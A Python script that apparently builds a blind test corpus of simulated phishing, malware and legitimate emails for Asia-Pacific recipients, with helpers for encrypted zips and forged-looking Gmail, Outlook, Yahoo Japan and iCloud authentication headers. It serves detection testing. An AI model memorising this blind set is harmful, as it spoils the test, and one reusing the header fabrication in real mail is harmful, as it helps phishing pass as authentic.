"""Blind set 15: Asia-Pacific consumers and content creators, 2023-2026.

The messages come from the mailboxes of volunteers of a (fictional) consumer-protection
group in the Asia-Pacific region, who donated what their providers stored, junk folder
included:

* personal mailboxes on Gmail, Outlook.com / outlook.jp, Yahoo! JAPAN mail, iCloud Mail and
  Australian / Singaporean ISPs (iiNet, Optus, SingNet), read in Japanese, English,
  Traditional Chinese (Hong Kong, Taiwan) and Korean;
* the business mailboxes of four small creator studios: Kumo Kitchen (a Japanese cooking
  channel, Google Workspace), Saltwater Lens (an Australian travel photography account,
  Microsoft 365), Pixel Dumpling (a Singapore tech-review channel, Google Workspace) and
  Haneul Studio (a Korean beauty channel, Google Workspace).

50 attacks: Japanese card, bank and payment lures (Rakuten Card, SMBC, MUFG, AEON, JCB,
Saison, PayPay, au PAY), Amazon.co.jp, Japan Post / Sagawa delivery failures, docomo billing,
Mercari, ETC toll and National Tax Agency lures, in ISO-2022-JP and UTF-8; Australian
(myGov, ATO, Linkt, Australia Post, CommBank callback, Telstra through a Dropbox share, AGL),
Singaporean (DBS, OCBC, SingPost, IRAS, Singpass through Google Forms), Hong Kong (HKeToll,
HSBC from a hijacked school mailbox), Taiwan (FETC eTag), Korean (Naver, Kakao, CJ
Logistics) and Indian (SBI KYC, income-tax refund) lures; creator-economy attacks
(Instagram copyright lookalike, Meta phishing relayed through Salesforce, a genuine Meta
Business Suite page-access request, sponsorship offers delivering an encrypted archive, a
MEGA-hosted "brand brief" and an ISO/LNK "contract", TikTok Shop affiliate, Discord Nitro,
Steam, MetaMask via a hijacked SendGrid account, a fake Ledger Live update, a Trezor
support-form abuse, a Coinbase callback from an onmicrosoft.com tenant, an AdSense hold on
Google Sites, and a hijacked invoice thread asking to change bank details).

25 legitimate messages: the same brands and shapes done right (Rakuten Card, SMBC Vpass,
Amazon.co.jp, Japan Post, docomo, Mercari, DBS, Singpass, myGov, Australia Post, Linkt,
Instagram, YouTube, Steam, Coinbase, AdSense, DocuSign, HSBC HK, a Japanese shop newsletter
full of tracking links) and personal or business mail (friends writing in Japanese and
Korean, a talent agency's sponsorship enquiry, a freelancer's invoice, a cookware maker's
sample shipment).

Run:  cd /work/main && .venv/bin/python samples/tools/build_blind15_samples.py
Output is deterministic: every id, token and signature is derived from the sample name.
"""

from __future__ import annotations

import base64
import email
import hashlib
import struct
import sys
import zlib
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from email import policy
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / "blind15_manifest.txt"

# ---------------------------------------------------------------------------
# deterministic tokens
# ---------------------------------------------------------------------------


def _digest(seed: str, label: str, i: int = 0) -> bytes:
    return hashlib.sha256(f"blind15\x1f{seed}\x1f{label}\x1f{i}".encode()).digest()


def _stream(seed: str, label: str, n: int) -> bytes:
    out = b""
    i = 0
    while len(out) < n:
        out += _digest(seed, label, i)
        i += 1
    return out[:n]


def hx(seed: str, label: str, n: int, upper: bool = False) -> str:
    s = _stream(seed, label, (n + 1) // 2).hex()[:n]
    return s.upper() if upper else s


def hv(seed: str, label: str, n: int) -> str:
    """An IPv6 group: hex digits without leading zeros."""
    return hx(seed, label, n).lstrip("0") or "0"


def b64(seed: str, label: str, n: int, urlsafe: bool = False) -> str:
    raw = _stream(seed, label, n)
    s = (base64.urlsafe_b64encode(raw) if urlsafe else base64.b64encode(raw)).decode()
    return s.replace("=", "")[:n]


ALNUM = "abcdefghijklmnopqrstuvwxyz0123456789"
ALNUM_MIX = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def tok(seed: str, label: str, n: int, alphabet: str = ALNUM) -> str:
    raw = _stream(seed, label, n)
    return "".join(alphabet[b % len(alphabet)] for b in raw)


def num(seed: str, label: str, lo: int, hi: int) -> int:
    return lo + int.from_bytes(_digest(seed, label), "big") % (hi - lo + 1)


def digits(seed: str, label: str, n: int) -> str:
    return tok(seed, label, n, "0123456789")


def guid(seed: str, label: str, upper: bool = False) -> str:
    h = hx(seed, label, 32)
    g = f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"
    return g.upper() if upper else g


def sig(seed: str, label: str, bits: int = 2048) -> str:
    """A base64 RSA signature value of the right length (not a real signature)."""
    return base64.b64encode(_stream(seed, "sig" + label, bits // 8)).decode()


def fold_b64(value: str, first: int, width: int = 70, indent: str = "\t ") -> str:
    out = [value[:first]]
    rest = value[first:]
    while rest:
        out.append(indent + rest[:width])
        rest = rest[width:]
    return "\n".join(out)


# ---------------------------------------------------------------------------
# dates
# ---------------------------------------------------------------------------

DAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def T(s: str) -> datetime:
    return datetime.strptime(s, "%Y-%m-%d %H:%M:%S").replace(tzinfo=timezone.utc)


def fmt(d: datetime, off: float = 0, comment: str | None = None, pad: bool = False) -> str:
    local = d.astimezone(timezone(timedelta(hours=off)))
    day = f"{local.day:02d}" if pad else str(local.day)
    s = f"{DAYS[local.weekday()]}, {day} {MONTHS[local.month - 1]} {local.year} {local:%H:%M:%S} {local:%z}"
    return s + (f" ({comment})" if comment else "")


def _nth_sunday(year: int, month: int, n: int) -> datetime:
    d = datetime(year, month, 1, tzinfo=timezone.utc)
    while d.weekday() != 6:
        d += timedelta(days=1)
    return d + timedelta(days=7 * (n - 1))


def pacific(d: datetime) -> tuple[int, str]:
    start = _nth_sunday(d.year, 3, 2) + timedelta(hours=10)
    end = _nth_sunday(d.year, 11, 1) + timedelta(hours=9)
    return (-7, "PDT") if start <= d < end else (-8, "PST")


def sydney(d: datetime) -> int:
    """AEST/AEDT: DST from the first Sunday of October to the first Sunday of April."""
    end = _nth_sunday(d.year, 4, 1) - timedelta(hours=16)
    start = _nth_sunday(d.year, 10, 1) - timedelta(hours=16)
    return 10 if end <= d < start else 11


def epoch(d: datetime) -> int:
    return int(d.timestamp())


# ---------------------------------------------------------------------------
# header encoding
# ---------------------------------------------------------------------------


def ew(s: str, charset: str = "UTF-8", limit: int = 75) -> str:
    """RFC 2047 B-encoded words, folded; ASCII text is returned unchanged."""
    if all(ord(c) < 128 for c in s):
        return s
    codec = {"UTF-8": "utf-8", "ISO-2022-JP": "iso-2022-jp", "utf-8": "utf-8", "EUC-KR": "euc-kr",
             "Big5": "big5", "ks_c_5601-1987": "euc-kr"}[charset]
    words, chunk = [], ""
    for ch in s:
        trial = chunk + ch
        enc = f"=?{charset}?B?{base64.b64encode(trial.encode(codec)).decode()}?="
        if len(enc) > limit and chunk:
            words.append(f"=?{charset}?B?{base64.b64encode(chunk.encode(codec)).decode()}?=")
            chunk = ch
        else:
            chunk = trial
    if chunk:
        words.append(f"=?{charset}?B?{base64.b64encode(chunk.encode(codec)).decode()}?=")
    return "\n ".join(words)


def addr(name: str, address: str, charset: str = "UTF-8", quote: bool = True) -> str:
    if not name:
        return address
    if all(ord(c) < 128 for c in name):
        if quote and any(c in name for c in ',.()<>@;:"[]'):
            return f'"{name}" <{address}>'
        return f"{name} <{address}>"
    return f"{ew(name, charset)} <{address}>"


# ---------------------------------------------------------------------------
# body helpers
# ---------------------------------------------------------------------------


def plain(content: str, charset: str = "utf-8", encoding: str = "quoted-printable", flowed: bool = False) -> Leaf:
    codec = {"iso-2022-jp": "iso-2022-jp", "ISO-2022-JP": "iso-2022-jp"}.get(charset, charset)
    params = f'; charset="{charset}"' if charset.lower() != "iso-2022-jp" else "; charset=ISO-2022-JP"
    if flowed:
        params += "; format=flowed"
    return Leaf("text/plain", content.encode(codec), encoding, params)


def html(content: str, charset: str = "utf-8", encoding: str = "quoted-printable") -> Leaf:
    codec = {"iso-2022-jp": "iso-2022-jp", "ISO-2022-JP": "iso-2022-jp"}.get(charset, charset)
    params = f'; charset="{charset}"' if charset.lower() != "iso-2022-jp" else "; charset=ISO-2022-JP"
    return Leaf("text/html", content.encode(codec), encoding, params)


def alt(seed: str, *parts, boundary: str | None = None) -> Multi:
    return Multi("alternative", boundary or f"----=_Part_{digits(seed, 'alt', 6)}_{digits(seed, 'alt2', 9)}.{digits(seed, 'alt3', 13)}", list(parts))


def mixed(boundary: str, *parts) -> Multi:
    return Multi("mixed", boundary, list(parts))


def related(boundary: str, *parts) -> Multi:
    return Multi("related", boundary, list(parts), params=' type="text/html";')


def fileleaf(ctype: str, name: str, data: bytes, inline: bool = False, cid: str | None = None,
             encoded_name: str | None = None) -> Leaf:
    """An attachment; ``encoded_name`` carries an RFC 2231 / 2047 form for non-ASCII names."""
    if encoded_name is None:
        return attachment(ctype, name, data, inline=inline, cid=cid)
    disp = "inline" if inline else "attachment"
    extra = [f"Content-ID: <{cid}>"] if cid else []
    return Leaf(ctype, data, "base64", f';\n\tname="{encoded_name}"',
                f"{disp};\n\tfilename*=UTF-8''{rfc2231(name)}", extra)


def rfc2231(name: str) -> str:
    out = []
    for b in name.encode("utf-8"):
        c = chr(b)
        out.append(c if (c.isalnum() and b < 128) or c in "-._~" else f"%{b:02X}")
    return "".join(out)


# ---------------------------------------------------------------------------
# password-protected zip (traditional PKWARE encryption), deterministic
# ---------------------------------------------------------------------------

_CRC_TABLE = []
for _i in range(256):
    _c = _i
    for _ in range(8):
        _c = (_c >> 1) ^ 0xEDB88320 if _c & 1 else _c >> 1
    _CRC_TABLE.append(_c)


class _ZipCrypto:
    def __init__(self, password: bytes):
        self.k0, self.k1, self.k2 = 0x12345678, 0x23456789, 0x34567890
        for b in password:
            self._update(b)

    @staticmethod
    def _crc(crc: int, b: int) -> int:
        return (crc >> 8) ^ _CRC_TABLE[(crc ^ b) & 0xFF]

    def _update(self, b: int) -> None:
        self.k0 = self._crc(self.k0, b)
        self.k1 = (self.k1 + (self.k0 & 0xFF)) & 0xFFFFFFFF
        self.k1 = (self.k1 * 134775813 + 1) & 0xFFFFFFFF
        self.k2 = self._crc(self.k2, self.k1 >> 24)

    def encrypt(self, data: bytes) -> bytes:
        out = bytearray()
        for p in data:
            t = (self.k2 | 2) & 0xFFFF
            out.append(p ^ (((t * (t ^ 1)) >> 8) & 0xFF))
            self._update(p)
        return bytes(out)


def encrypted_zip(members: list[tuple[str, bytes]], password: str, seed: str,
                  when: tuple[int, int, int, int, int, int]) -> bytes:
    """A zip whose members are deflated then ZipCrypto-encrypted (what 7-Zip/WinRAR make with 'ZipCrypto')."""
    y, mo, d, h, mi, s = when
    dos_time = (h << 11) | (mi << 5) | (s // 2)
    dos_date = ((y - 1980) << 9) | (mo << 5) | d
    local = bytearray()
    central = bytearray()
    for index, (name, data) in enumerate(members):
        crc = zlib.crc32(data) & 0xFFFFFFFF
        comp = zlib.compressobj(9, zlib.DEFLATED, -15)
        deflated = comp.compress(data) + comp.flush()
        header = bytearray(_stream(seed, f"zipiv{index}", 12))
        header[11] = (crc >> 24) & 0xFF
        crypt = _ZipCrypto(password.encode())
        body = crypt.encrypt(bytes(header)) + crypt.encrypt(deflated)
        fname = name.encode("utf-8")
        flags = 0x0001 | (0x0800 if any(ord(c) > 127 for c in name) else 0)
        offset = len(local)
        local += struct.pack("<4sHHHHHLLLHH", b"PK\x03\x04", 20, flags, 8, dos_time, dos_date, crc,
                             len(body), len(data), len(fname), 0) + fname + body
        central += struct.pack("<4sHHHHHHLLLHHHHHLL", b"PK\x01\x02", 0x031E, 20, flags, 8, dos_time, dos_date,
                               crc, len(body), len(data), len(fname), 0, 0, 0, 0, 0x81A40000, offset) + fname
    end = struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), len(local), 0)
    return bytes(local + central + end)


# ---------------------------------------------------------------------------
# the stored message: receiving provider blocks
# ---------------------------------------------------------------------------


@dataclass
class Mail:
    name: str                 # b15-<kind>-<slug>
    category: str             # phishing / malware / clean / bulk
    desc: str
    rcpt: str
    provider: str             # gmail / outlook / m365 / yjp / icloud / iinet / optus / singnet
    t: datetime               # arrival at the receiving MX (UTC)
    client: tuple             # (helo, rdns or None, ip)
    env_from: str             # envelope sender ('' for null)
    spf: str                  # pass / fail / softfail / neutral / none
    dkim: list                # [(result, d, s)]
    dmarc: tuple              # (result, policy) result pass/fail/none; policy REJECT/QUARANTINE/NONE/''
    hfrom: str                # RFC5322.From domain
    sender: list = field(default_factory=list)    # sender-side trace/signature lines
    headers: list = field(default_factory=list)   # the message's own header lines
    body: object = None
    tls: bool = True
    junk: bool = False
    gts: bool = False         # Gmail-to-Gmail (Google Transport Security)
    country: str = "JP"


def _dkim_b(m: Mail, d: str, s: str) -> str:
    return sig(m.name, f"{d}/{s}")


def dkim_sig(m: Mail, d: str, s: str, h: str, sent: datetime | None = None, bits: int = 2048,
             extra: str = "", i: str | None = None, c: str = "relaxed/relaxed", expire: int | None = None) -> str:
    """A DKIM-Signature header line (folded) for the message, with a deterministic b= of the right size."""
    sent = sent or (m.t - timedelta(seconds=3))
    bh = base64.b64encode(_digest(m.name, "bh" + d)).decode()
    b = sig(m.name, f"{d}/{s}", bits)
    head = f"DKIM-Signature: v=1; a=rsa-sha256; c={c}; d={d};\n\ts={s}; t={epoch(sent)};"
    if expire:
        head += f" x={epoch(sent) + expire};"
    if i:
        head += f" i={i};"
    if extra:
        head += f" {extra};"
    hl = h.split(":")
    hlines, cur = [], "h="
    for idx, name in enumerate(hl):
        piece = name + (":" if idx < len(hl) - 1 else ";")
        if len(cur) + len(piece) > 68:
            hlines.append(cur)
            cur = ""
        cur += piece
    hlines.append(cur)
    head += "\n\t" + "\n\t ".join(hlines)
    head += f"\n\tbh={bh};"
    head += "\n\t" + fold_b64("b=" + b, 70, 70, "\t ")
    return head


def _spf_gmail(m: Mail) -> tuple[str, str]:
    ip, mf = m.client[2], m.env_from
    dom = mf.split("@")[-1]
    if m.spf == "pass":
        txt = f"google.com: domain of {mf} designates {ip} as permitted sender"
    elif m.spf == "softfail":
        txt = f"google.com: domain of transitioning {mf} does not designate {ip} as permitted sender"
    elif m.spf == "fail":
        txt = f"google.com: domain of {mf} does not designate {ip} as permitted sender"
    elif m.spf == "neutral":
        txt = f"google.com: {ip} is neither permitted nor denied by best guess record for domain of {mf}"
    else:
        txt = f"google.com: {dom} does not designate permitted sender hosts"
    return txt, f"{m.spf} ({txt}) client-ip={ip};"


def _gmail_ar(m: Mail, prefix: str) -> str:
    parts = []
    for res, d, s in m.dkim:
        parts.append(f"dkim={res} header.i=@{d} header.s={s} header.b={_dkim_b(m, d, s)[:8]}")
    txt, _ = _spf_gmail(m)
    parts.append(f"spf={m.spf} ({txt}) smtp.mailfrom={m.env_from}")
    res, pol = m.dmarc
    if res != "none":
        sp = pol
        parts.append(f"dmarc={res} (p={pol} sp={sp} dis={'NONE' if res == 'pass' or pol == 'NONE' else ('QUARANTINE' if pol == 'QUARANTINE' else 'REJECT')}) header.from={m.hfrom}")
    return prefix + "mx.google.com;\n       " + ";\n       ".join(parts)


def rx_gmail(m: Mail) -> tuple[list[str], list[str]]:
    seed = m.name

    def g(sec: float) -> str:
        d = m.t + timedelta(seconds=sec)
        off, z = pacific(d)
        return fmt(d, off, z)

    d0 = m.t.astimezone(timezone(timedelta(hours=pacific(m.t)[0])))
    smtp_id = (f"{hx(seed, 'gid', 13)}-{hx(seed, 'gid2', 11)}si{digits(seed, 'gid3', 7)}{tok(seed, 'gid4', 3)}."
               f"{num(seed, 'gid5', 10, 999)}.{d0:%Y.%m.%d.%H.%M.%S}")
    arc_sel = "arc-20240605" if m.t.year >= 2024 and m.t.month >= 7 or m.t.year >= 2025 else "arc-20160816"
    helo, rdns, ip = m.client
    lines = [f"Delivered-To: {m.rcpt}"]
    lines.append(f"Received: by 2002:a05:{hx(seed, 'r1', 4)}:{hx(seed, 'r2', 4)}:b0:{hx(seed, 'r3', 3)}:"
                 f"{hx(seed, 'r4', 4)}:{hx(seed, 'r5', 4)} with SMTP id {tok(seed, 'r6', 2)}{digits(seed, 'r7', 3)}"
                 f"csp{digits(seed, 'r8', 7)}{tok(seed, 'r9', 3)};\n        {g(1)}")
    lines.append(f"X-Google-Smtp-Source: AGHT+I{b64(seed, 'xgss', 80)}")
    lines.append(f"X-Received: by 2002:a17:90b:{hx(seed, 'x1', 4)}:b0:{hx(seed, 'x2', 3)}:{hx(seed, 'x3', 4)}:"
                 f"{hx(seed, 'x4', 4)} with SMTP id {tok(seed, 'x5', 2)}{digits(seed, 'x6', 2)}-{hx(seed, 'x7', 11)}"
                 f"{tok(seed, 'x8', 5)}.{num(seed, 'x9', 10, 99)}.{d0:%Y}.{d0:%m}.{d0:%d}.{d0:%H}.{d0:%M}.{d0:%S};\n        {g(1)}")
    lines.append(f"ARC-Seal: i=1; a=rsa-sha256; t={epoch(m.t)}; cv=none;\n        d=google.com; s={arc_sel};\n"
                 f"        {fold_b64('b=' + sig(seed, 'arcseal'), 66, 68, '        ')}")
    lines.append(f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s={arc_sel};\n"
                 f"        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
                 f"        bh={base64.b64encode(_digest(seed, 'arcbh')).decode()};\n"
                 f"        fh={base64.b64encode(_digest(seed, 'arcfh')).decode()};\n"
                 f"        {fold_b64('b=' + sig(seed, 'arcms'), 66, 68, '        ')}")
    lines.append(_gmail_ar(m, "ARC-Authentication-Results: i=1; "))
    lines.append(f"Return-Path: <{m.env_from}>")
    host = f"{rdns}." if rdns else "unknown"
    if m.gts:
        lines.append(f"Received: from {helo} ({host} [{ip}])\n        by mx.google.com with SMTPS id {smtp_id}\n"
                     f"        for <{m.rcpt}>\n        (Google Transport Security);\n        {g(0)}")
    elif m.tls:
        lines.append(f"Received: from {helo} ({host} [{ip}])\n        by mx.google.com with ESMTPS id {smtp_id}\n"
                     f"        for <{m.rcpt}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {g(0)}")
    else:
        lines.append(f"Received: from {helo} ({host} [{ip}])\n        by mx.google.com with ESMTP id {smtp_id}\n"
                     f"        for <{m.rcpt}>;\n        {g(0)}")
    _, rspf = _spf_gmail(m)
    lines.append(f"Received-SPF: {rspf}")
    lines.append(_gmail_ar(m, "Authentication-Results: "))
    return lines, []


_MS_BUILD = {2023: "15.20.6768.{}", 2024: "15.20.7698.{}", 2025: "15.20.8466.{}", 2026: "15.20.9320.{}"}


def _ms_build(m: Mail, label: str) -> str:
    return _MS_BUILD[m.t.year].format(num(m.name, label, 10, 39))


def rx_microsoft(m: Mail, tenant: str | None = None) -> tuple[list[str], list[str]]:
    """Outlook.com (consumer, NAM) or a Microsoft 365 tenant in Australia (ausprd01)."""
    seed = m.name
    region, p = ("ausprd01", "SY") if tenant else ("namprd" + str(num(seed, "reg", 10, 20)), "SN")
    mbx = f"{p}{num(seed, 'mbx', 4, 7)}PR{num(seed, 'mbx2', 10, 19):02d}MB{num(seed, 'mbx3', 1000, 9999)}.{region}.prod.outlook.com"
    fe = f"{'ME' if tenant else 'BN'}{num(seed, 'fe', 0, 9)}PR{num(seed, 'fe2', 1, 9):02d}CA{num(seed, 'fe3', 1, 999):04d}.{region}.prod.outlook.com"
    eop_short = f"{'SY1' if tenant else 'BN2'}PEPF0000{hx(seed, 'eop', 4, True)}"
    mbx2 = f"{p}{num(seed, 'mbxb', 4, 7)}PR{num(seed, 'mbxb2', 10, 19):02d}MB{num(seed, 'mbxb3', 1000, 9999)}.{region}.prod.outlook.com"
    eop = f"{eop_short}.{region}.prod.outlook.com"
    v6 = f"2603:10c6:{hv(seed, 'v6a', 3)}:{hv(seed, 'v6b', 2)}::{hv(seed, 'v6c', 2)}" if tenant else \
        f"2603:10b6:{hv(seed, 'v6a', 3)}:{hv(seed, 'v6b', 2)}::{hv(seed, 'v6c', 2)}"
    helo, rdns, ip = m.client
    dom = m.env_from.split("@")[-1] if m.env_from else helo

    def t(sec: float) -> str:
        return fmt(m.t + timedelta(seconds=sec), 0)

    cipher = "(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384)"
    lines = []
    if not tenant:
        lines.append(f"Received: from {mbx} ({v6}) by\n {mbx2} with HTTPS; {t(2)}")
    lines.append(f"Received: from {fe} ({v6.rsplit('::', 1)[0]}::{hv(seed, 'fe6', 2)})\n by {mbx} ({v6}) with Microsoft SMTP Server\n"
                 f" {cipher} id {_ms_build(m, 'b1')}; {t(2)}")
    lines.append(f"Received: from {eop} ({v6.rsplit('::', 1)[0]}:cafe::{hv(seed, 'cafe', 2)}) by\n {fe.split('.')[0]}.outlook.office365.com\n"
                 f" ({v6.rsplit('::', 1)[0]}::{hv(seed, 'fe6', 2)}) with Microsoft SMTP Server {cipher}\n"
                 f" id {_ms_build(m, 'b2')} via Frontend Transport; {t(1)}")
    # authentication results
    spf_txt = {"pass": f"spf=pass (sender IP is {ip})", "fail": f"spf=fail (sender IP is {ip})",
               "softfail": f"spf=softfail (sender IP is {ip})", "neutral": f"spf=neutral (sender IP is {ip})",
               "none": f"spf=none (sender IP is {ip})"}[m.spf]
    parts = [f"{spf_txt}\n smtp.mailfrom={dom};"]
    if m.dkim:
        for res, d, s in m.dkim[:1]:
            if res == "pass":
                parts.append(f" dkim=pass (signature was verified)\n header.d={d};")
            else:
                parts.append(f" dkim=fail (body hash did not verify)\n header.d={d};")
    else:
        parts.append(" dkim=none (message not signed)\n header.d=none;")
    res, pol = m.dmarc
    action = "none" if res != "fail" else {"REJECT": "oreject", "QUARANTINE": "quarantine", "NONE": "none"}.get(pol, "none")
    if res == "pass":
        comp = "compauth=pass reason=100"
    elif res == "fail":
        comp = "compauth=fail reason=000"
    else:
        comp = "compauth=softpass reason=201" if m.spf == "pass" or m.dkim else "compauth=fail reason=001"
    if res == "none":
        parts.append(f"dmarc=none action=none\n header.from={m.hfrom};{comp}")
    else:
        parts.append(f"dmarc={res} action={action}\n header.from={m.hfrom};{comp}")
    lines.append("Authentication-Results: " + "".join(parts))
    rspf = {"pass": "Pass", "fail": "Fail", "softfail": "SoftFail", "neutral": "Neutral", "none": "None"}[m.spf]
    if m.spf == "pass":
        lines.append(f"Received-SPF: Pass (protection.outlook.com: domain of {dom}\n designates {ip} as permitted sender)\n"
                     f" receiver=protection.outlook.com; client-ip={ip};\n helo={helo}; pr=C")
    elif m.spf == "none":
        lines.append(f"Received-SPF: None (protection.outlook.com: {dom} does not designate\n permitted sender hosts)")
    else:
        lines.append(f"Received-SPF: {rspf} (protection.outlook.com: domain of {dom} does\n not designate {ip} as permitted sender)\n"
                     f" receiver=protection.outlook.com; client-ip={ip}; helo={helo};")
    lines.append(f"Received: from {rdns or helo} ({ip}) by\n {eop_short}.mail.protection.outlook.com ({'10.167.' + str(num(seed, 'ip1', 240, 250)) + '.' + str(num(seed, 'ip2', 2, 250))}) with Microsoft SMTP\n"
                 f" Server {cipher} id\n {_ms_build(m, 'b3')} via Frontend Transport; {t(0)}")
    lines.append(f"X-IncomingTopHeaderMarker:\n OriginalChecksum:{hx(seed, 'oc', 64, True)};UpperCasedChecksum:{hx(seed, 'uc', 64, True)};"
                 f"SizeAsReceived:{num(seed, 'sar', 3100, 9800)};Count:{num(seed, 'cnt', 14, 48)}")
    # trailer
    scl = 5 if m.junk else 1
    ctry = {"JP": "JP", "CN": "CN", "HK": "HK", "US": "US", "AU": "AU", "SG": "SG", "IN": "IN", "DE": "DE",
            "RU": "RU", "VN": "VN", "KR": "KR", "NL": "NL"}.get(m.country, "US")
    trail = [f"Return-Path: {m.env_from}" if m.env_from else "Return-Path: <>",
             f"X-MS-Exchange-Organization-ExpirationStartTime: {(m.t).strftime('%d %b %Y %H:%M:%S.')}{digits(seed, 'est', 4)} (UTC)",
             "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
             "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
             "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
             f"X-MS-Exchange-Organization-Network-Message-Id:\n {guid(seed, 'nmid')}",
             "X-EOPAttributedMessage: 0",
             "X-EOPTenantAttributedMessage: " + (f"{tenant}:0" if tenant else "84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa:0"),
             "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
             "X-MS-PublicTrafficType: Email",
             f"X-MS-TrafficTypeDiagnostic: {eop_short}:EE_|{mbx.split('.')[0]}:EE_{'|' + mbx2.split('.')[0] + ':EE_' if not tenant else ''}",
             f"X-MS-Exchange-Organization-AuthSource:\n {eop}",
             "X-MS-Exchange-Organization-AuthAs: Anonymous",
             f"X-MS-Office365-Filtering-Correlation-Id: {guid(seed, 'fcid')}",
             f"X-MS-Exchange-Organization-SCL: {scl}",
             f"X-Forefront-Antispam-Report:\n CIP:{ip};CTRY:{ctry};LANG:{'ja' if m.rcpt.endswith('.jp') else 'en'};SCL:{scl};SRV:;IPV:NLI;SFV:{'SPM' if m.junk else 'NSPM'};H:{helo};PTR:{rdns or 'InfoDomainNonexistent'};CAT:{'SPM' if m.junk else 'NONE'};SFS:(13230040)({num(seed, 'sfs', 4000000, 4999999)}{digits(seed, 'sfs2', 3)})"
             f"({num(seed, 'sfs3', 8000000, 8999999)}{digits(seed, 'sfs4', 5)});DIR:INB;",
             f"X-Microsoft-Antispam: BCL:{0 if m.category in ('clean', 'phishing', 'malware') else num(seed, 'bcl', 0, 3)};ARA:{digits(seed, 'ara', 7)}|{digits(seed, 'ara2', 10)};",
             f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {m.t.strftime('%d %b %Y %H:%M:%S.')}{digits(seed, 'oat', 4)}\n (UTC)",
             f"X-MS-Exchange-CrossTenant-Network-Message-Id: {guid(seed, 'nmid')}",
             f"X-MS-Exchange-CrossTenant-Id: {tenant or '84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa'}",
             f"X-MS-Exchange-CrossTenant-AuthSource:\n {eop}",
             "X-MS-Exchange-CrossTenant-AuthAs: Anonymous",
             "X-MS-Exchange-CrossTenant-FromEntityHeader: Internet",
             "X-MS-Exchange-CrossTenant-RMS-PersistedConsumerOrg:\n 00000000-0000-0000-0000-000000000000",
             f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {mbx.split('.')[0]}",
             f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{num(seed, 'lat', 1, 4)}.{digits(seed, 'lat2', 7)}",
             "X-MS-Exchange-Processed-By-BccFoldering: 15.20." + _MS_BUILD[m.t.year].split('.')[2] + ".000",
             f"X-Microsoft-Antispam-Mailbox-Delivery:\n ucf:0;jmr:0;auth:0;dest:{'J' if m.junk else 'I'};ENG:(910005)(944506478)(944626604)(920097)(930097)({num(seed, 'eng', 3100000, 3199999)});",
             f"X-Microsoft-Antispam-Message-Info:\n {fold_b64(b64(seed, 'ami', 600), 76, 76, ' ')}"]
    return lines, trail


def rx_yjp(m: Mail) -> tuple[list[str], list[str]]:
    seed = m.name
    helo, rdns, ip = m.client
    mf = f"mfilter{num(seed, 'mf', 1000, 1299)}.mail.kks.yahoo.co.jp"
    mta = f"mta{num(seed, 'mta', 5000, 5299)}.mail.kks.yahoo.co.jp"

    def t(sec: float) -> str:
        return fmt(m.t + timedelta(seconds=sec), 9)

    dom = m.env_from.split("@")[-1] if m.env_from else helo
    dk = "; ".join(f"dkim={r} header.d={d}" for r, d, s in m.dkim) if m.dkim else "dkim=none"
    res = m.dmarc[0]
    lines = [f"Return-Path: <{m.env_from}>",
             f"Received: from {mf} (10.{num(seed, 'i1', 200, 220)}.{num(seed, 'i2', 1, 250)}.{num(seed, 'i3', 1, 250)})\n"
             f"  by {mta} with SMTP; {t(1)}",
             f"Received: from {helo} ({rdns or 'unknown'} [{ip}])\n  by {mf} with {'ESMTPS' if m.tls else 'ESMTP'} id {hx(seed, 'qid', 12, True)}\n"
             f"  for <{m.rcpt}>; {t(0)}",
             f"X-Apparently-To: {m.rcpt}; {t(1)}",
             f"X-YMailISG: {b64(seed, 'isg', 120, True)}",
             f"Authentication-Results: {mta}  ; spf={m.spf} smtp.mailfrom={dom} ;\n  {dk} ;\n"
             f"  dmarc={res} header.from={m.hfrom}" + (f" policy.published-domain-policy={m.dmarc[1].lower()}" if res == "fail" else ""),
             f"X-YMail-JAS: {b64(seed, 'jas', 48, True)}" + ("\nX-YMailSpamFilter: detected" if m.junk else "")]
    return lines, []


def rx_icloud(m: Mail) -> tuple[list[str], list[str]]:
    seed = m.name
    helo, rdns, ip = m.client
    mr = f"mr{num(seed, 'mr', 10, 99)}p00im-{'zteg' if num(seed, 'z', 0, 1) else 'ztdg'}0602{num(seed, 'mr2', 1000, 2999)}.me.com"
    store = f"p{num(seed, 'ms', 100, 199)}-mailstore-{num(seed, 'ms2', 1, 99):04d}.ma.icloud.com"

    def t(sec: float, z: str = "+0000") -> str:
        return fmt(m.t + timedelta(seconds=sec), 0)

    dom = m.env_from.split("@")[-1] if m.env_from else helo
    folder = "Junk" if m.junk else "INBOX"
    lines = [f"Return-Path: <{m.env_from}>",
             f"Original-recipient: rfc822;{m.rcpt}",
             f"Received: from {mr} by {store} (mailgateway 2{num(seed, 'gw', 400, 549)}B{num(seed, 'gw2', 10, 40)})\n"
             f"\twith SMTP id {guid(seed, 'gwid')}; {fmt(m.t + timedelta(seconds=1), 0).replace('+0000', 'GMT')}",
             f"X-Apple-MoveToFolder: {folder}",
             f"X-Apple-Action: MOVE_TO_FOLDER/{folder}",
